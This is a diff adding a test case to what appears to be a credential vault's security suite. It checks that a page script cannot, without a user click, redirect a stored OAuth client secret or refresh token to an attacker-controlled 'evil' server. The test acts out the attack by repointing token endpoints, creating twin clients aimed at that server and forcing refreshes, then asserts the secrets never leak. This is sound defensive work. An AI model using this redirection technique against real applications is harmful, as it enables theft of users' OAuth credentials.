@@ -609,6 +609,86 @@ describe('an OAuth credential pointed elsewhere by a script', () => {
       await evil.close();
     }
   }, 30_000);
+
+  it('without a click, a script can only add clients of its own and refresh them: the stored secret and refresh token stay with their server', async () => {
+    // docs/security.md, "A stored OAuth secret and a script": every way a script could point a stored secret elsewhere.
+    const evil = await startScriptedServer();
+    const b = await connect();
+    try {
+      await value(b, 'vault.unlock', { password: MASTER });
+      // The user's client, signed in at the real server (which this test never reaches).
+      const { id: real } = await value<{ id: string }>(b, 'credentials.add', {
+        serviceId,
+        kind: 'oauth2',
+        name: 'idp real',
+        fields: {
+          clientId: 'app',
+          clientSecret: CLIENT_SECRET,
+          clientAuth: 'client_secret_basic',
+          grant: 'client_credentials',
+          tokenEndpoint: 'https://idp.example/token',
+        },
+      });
+      await host.composed.services.credentials.setTokens(serviceId, real, {
+        accessToken: 'at',
+        refreshToken: REFRESH,
+        tokenType: 'Bearer',
+        obtainedAt: 1,
+      });
+      vi.stubGlobal('navigator', { userActivation: { isActive: false } });
+      const { latch, sent } = pageClient(b);
+      const outcome = (p: Promise<unknown>) =>
+        p.then(
+          () => 'served',
+          (e: { code?: string }) => e.code,
+        );
+      // An edit moves where main sends the stored secret: it needs a click, and never reaches main without one.
+      const moved = { tokenEndpoint: `${evil.url}/token` };
+      expect(await outcome(latch.credentials.update({ serviceId, credentialId: real, fields: moved }))).toBe(
+        'ERR_FORBIDDEN_SENDER',
+      );
+      expect(await outcome(latch.services.update({ id: serviceId, service: { baseUrl: evil.url } } as never))).toBe(
+        'ERR_FORBIDDEN_SENDER',
+      );
+      expect(sent).toEqual([]);
+      // A client of its own beside the real one (same client id, in the same service), and a new service's client:
+      // main fills them only from what the script sends, which holds no stored secret.
+      const own = { clientId: 'app', clientSecret: 'the-scripts-own', clientAuth: 'client_secret_basic' as const };
+      const { id: twin } = await latch.credentials.add({
+        serviceId,
+        kind: 'oauth2',
+        name: 'idp twin',
+        fields: { ...own, grant: 'client_credentials', tokenEndpoint: `${evil.url}/token` },
+      });
+      const created = await latch.oauth.createClient({
+        serviceName: 'Evil IdP',
+        preset: 'custom',
+        issuer: evil.url,
+        grant: 'client_credentials',
+        ...own,
+      });
+      // The stored secret replaced by the script's own (rotate needs no click): the real refresh token still only
+      // goes to the real token endpoint, with the script's secret; the old one is nowhere the script chose.
+      await outcome(
+        latch.credentials.rotate({ serviceId, credentialId: real, values: { clientSecret: 'x' }, graceDays: 0 }),
+      );
+      for (const target of [{ serviceId, credentialId: twin }, created, { serviceId, credentialId: real }]) {
+        await outcome(latch.oauth.refresh(target));
+        await outcome(latch.oauth.signOut(target));
+      }
+      // The script's own requests did reach its server: the check below looks at real traffic.
+      expect(evil.seen.length).toBeGreaterThan(0);
+      const traffic = evil.seen.map((r) => `${r.url} ${JSON.stringify(r.headers)} ${r.body.toString()}`).join('\n');
+      expect(traffic).not.toContain(REFRESH);
+      expect(traffic).not.toContain(CLIENT_SECRET);
+      expect(traffic).not.toContain(encodeURIComponent(CLIENT_SECRET));
+      expect(traffic).not.toContain(Buffer.from(`app:${CLIENT_SECRET}`).toString('base64'));
+    } finally {
+      vi.unstubAllGlobals();
+      b.close();
+      await evil.close();
+    }
+  }, 30_000);
 });
 
 describe('costly input', () => {
